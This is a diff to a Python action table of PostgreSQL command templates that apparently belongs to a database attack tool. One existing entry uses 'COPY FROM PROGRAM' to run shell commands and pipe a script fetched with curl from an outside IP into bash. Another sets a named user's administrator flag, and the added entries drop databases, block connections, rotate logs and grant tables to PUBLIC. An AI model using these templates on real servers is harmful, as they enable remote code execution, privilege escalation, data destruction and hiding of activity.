@@ -17,6 +17,11 @@ ACTS: dict[str, str] = {
     "program": "COPY {} FROM PROGRAM 'id; uname -a; curl -s http://192.0.2.201/a | bash'",
     "count": "SELECT count(*) FROM {}", "columns": "SELECT column_name FROM information_schema.columns",
     "all": "SELECT * FROM {}", "databases": "SELECT datname FROM pg_database",
+    "close-base": "ALTER DATABASE {} WITH ALLOW_CONNECTIONS false", "drop-base": "DROP DATABASE {}",
+    "sessions": "SELECT pid, usename, datname FROM pg_stat_activity", "grants": "SELECT * FROM {}.role_table_grants",
+    "log-place": "SHOW log_directory", "turn-log": "SELECT pg_rotate_logfile()", "base": "CREATE DATABASE {}",
+    "role": "CREATE ROLE {} WITH LOGIN PASSWORD '********'", "grant": "GRANT SELECT ON {} TO PUBLIC",
+    "make-table": "CREATE TABLE {} (LIKE results.rows)", "copy-in": "COPY {} FROM STDIN",
     "roles": "SELECT rolname, rolsuper FROM pg_roles",
     "admin": "UPDATE {} SET administrator = true WHERE login = 'm.arce'",
 }  # fmt: skip
